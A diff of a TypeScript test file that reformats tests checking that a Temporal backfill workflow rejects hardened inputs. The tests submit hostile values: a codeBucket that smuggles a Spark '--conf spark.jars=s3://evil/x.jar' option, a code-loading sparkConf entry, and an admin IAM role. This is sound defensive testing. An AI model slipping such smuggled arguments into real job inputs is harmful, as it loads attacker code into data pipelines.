@@ -47,7 +47,12 @@ describe('input: hardened input through the workflow (dev server, temporal CLI)'
         },
       ]),
     );
-    worker = await Worker.create({ connection: env.nativeConnection, taskQueue: TASK_QUEUE, workflowsPath: WORKFLOWS_PATH, activities: recorded });
+    worker = await Worker.create({
+      connection: env.nativeConnection,
+      taskQueue: TASK_QUEUE,
+      workflowsPath: WORKFLOWS_PATH,
+      activities: recorded,
+    });
     running = worker.run();
   });
 
@@ -58,7 +63,10 @@ describe('input: hardened input through the workflow (dev server, temporal CLI)'
   });
 
   after(async () => {
-    for (const [name, value] of [['BACKFILL_ALLOW_SPARK_CONF', saved.spark], ['BACKFILL_ALLOWED_JOB_ROLES', saved.roles]] as const) {
+    for (const [name, value] of [
+      ['BACKFILL_ALLOW_SPARK_CONF', saved.spark],
+      ['BACKFILL_ALLOWED_JOB_ROLES', saved.roles],
+    ] as const) {
       if (value === undefined) delete process.env[name];
       else process.env[name] = value;
     }
@@ -68,11 +76,19 @@ describe('input: hardened input through the workflow (dev server, temporal CLI)'
     fs.rmSync(dir, { recursive: true, force: true });
   });
 
-  const input = (extra: Record<string, unknown>) => ({ bucket: lake, startDate: '2025-10-01', endDate: '2025-10-02', ...extra });
+  const input = (extra: Record<string, unknown>) => ({
+    bucket: lake,
+    startDate: '2025-10-01',
+    endDate: '2025-10-02',
+    ...extra,
+  });
 
   /** The workflow's failure: an InvalidInput ApplicationFailure, non-retryable. */
   async function invalidInput(handle: WorkflowHandle): Promise<string> {
-    const err = await handle.result().then(() => undefined, (e: unknown) => e);
+    const err = await handle.result().then(
+      () => undefined,
+      (e: unknown) => e,
+    );
     assert.ok(err instanceof WorkflowFailedError, `expected the workflow to fail, got ${String(err)}`);
     assert.ok(err.cause instanceof ApplicationFailure, `expected an ApplicationFailure, got ${String(err.cause)}`);
     assert.equal(err.cause.type, 'InvalidInput');
@@ -83,7 +99,11 @@ describe('input: hardened input through the workflow (dev server, temporal CLI)'
   async function workStarted(handle: WorkflowHandle): Promise<{ activities: string[]; children: number }> {
     const { events } = await handle.fetchHistory();
     return {
-      activities: (events ?? []).flatMap((e) => (e.activityTaskScheduledEventAttributes ? [e.activityTaskScheduledEventAttributes.activityType?.name ?? '?'] : [])),
+      activities: (events ?? []).flatMap((e) =>
+        e.activityTaskScheduledEventAttributes
+          ? [e.activityTaskScheduledEventAttributes.activityType?.name ?? '?']
+          : [],
+      ),
       children: (events ?? []).filter((e) => e.startChildWorkflowExecutionInitiatedEventAttributes).length,
     };
   }
@@ -91,17 +111,27 @@ describe('input: hardened input through the workflow (dev server, temporal CLI)'
   it('temporal workflow start with a codeBucket carrying Spark options fails on codeBucket; no activity runs', async () => {
     const workflowId = 'input-cli-code-bucket';
     const { stdout } = await promisify(execFile)(path.join(VENV_BIN, 'temporal'), [
-      'workflow', 'start',
-      '--address', env.address,
-      '--namespace', 'default',
-      '--type', 'backfillWorkflow',
-      '--task-queue', TASK_QUEUE,
-      '--workflow-id', workflowId,
-      '--input', JSON.stringify(input({ codeBucket: 'x --conf spark.jars=s3://evil/x.jar', dryRun: true })),
+      'workflow',
+      'start',
+      '--address',
+      env.address,
+      '--namespace',
+      'default',
+      '--type',
+      'backfillWorkflow',
+      '--task-queue',
+      TASK_QUEUE,
+      '--workflow-id',
+      workflowId,
+      '--input',
+      JSON.stringify(input({ codeBucket: 'x --conf spark.jars=s3://evil/x.jar', dryRun: true })),
     ]);
     assert.match(stdout, new RegExp(workflowId));
     const handle = env.client.workflow.getHandle(workflowId);
-    assert.match(await invalidInput(handle), /^invalid input: codeBucket: "x --conf spark\.jars=s3:\/\/evil\/x\.jar" contains whitespace/);
+    assert.match(
+      await invalidInput(handle),
+      /^invalid input: codeBucket: "x --conf spark\.jars=s3:\/\/evil\/x\.jar" contains whitespace/,
+    );
     assert.deepEqual(await workStarted(handle), { activities: [], children: 0 });
     assert.deepEqual(calls, []);
   });
@@ -112,7 +142,10 @@ describe('input: hardened input through the workflow (dev server, temporal CLI)'
       taskQueue: TASK_QUEUE,
       workflowId: 'input-cli-spark-jars-refused',
     });
-    assert.match(await invalidInput(refused), /^invalid input: sparkConf\.spark\.jars: loads code .*BACKFILL_ALLOW_SPARK_CONF=spark\.jars/);
+    assert.match(
+      await invalidInput(refused),
+      /^invalid input: sparkConf\.spark\.jars: loads code .*BACKFILL_ALLOW_SPARK_CONF=spark\.jars/,
+    );
     assert.deepEqual(await workStarted(refused), { activities: ['preflight'], children: 0 });
     assert.deepEqual(calls, ['preflight']);
 
@@ -135,7 +168,10 @@ describe('input: hardened input through the workflow (dev server, temporal CLI)'
       taskQueue: TASK_QUEUE,
       workflowId: 'input-cli-job-role',
     });
-    assert.match(await invalidInput(handle), /^invalid input: emr\.jobRole: "arn:aws:iam::123456789012:role\/Admin" is not allowed by this worker: BACKFILL_ALLOWED_JOB_ROLES/);
+    assert.match(
+      await invalidInput(handle),
+      /^invalid input: emr\.jobRole: "arn:aws:iam::123456789012:role\/Admin" is not allowed by this worker: BACKFILL_ALLOWED_JOB_ROLES/,
+    );
     assert.deepEqual(calls, ['preflight']);
   });
 });
